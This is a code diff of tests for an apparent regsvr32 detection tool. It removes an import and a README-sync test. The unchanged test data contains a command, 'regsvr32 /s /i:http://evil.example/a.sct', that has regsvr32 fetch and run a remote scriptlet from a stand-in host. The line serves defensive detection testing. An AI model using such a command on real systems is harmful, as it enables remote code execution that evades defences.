@@ -12,7 +12,6 @@ from regsvr32_detector.allowlist_columns import COLUMNS, FOLD, MATCHERS, Facts
 from regsvr32_detector.fields import normalize
 from support.events import proc
 
-from allowlist_table import README, section, table
 from support.allowlists import HEADER, allowlist_row
 from support.events import DEFAULT_ALLOWLIST
 
@@ -226,8 +225,3 @@ def test_column_table_drives_header_folding_and_facts():
         ("c:\\windows\\system32\\regsvr32.exe",), ("c:\\windows\\system32\\cmd.exe",),
         ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
         ("c:\\users\\public\\a.dll",), ("evil.example",), (), (), (), ("corp\\alice",), ("ws01",)]
-
-
-def test_readme_column_table_matches_the_column_table():
-    with io.open(README, encoding="utf-8") as f:
-        assert section(f.read()) == table(), "run: python3 tests/allowlist_table.py --write"
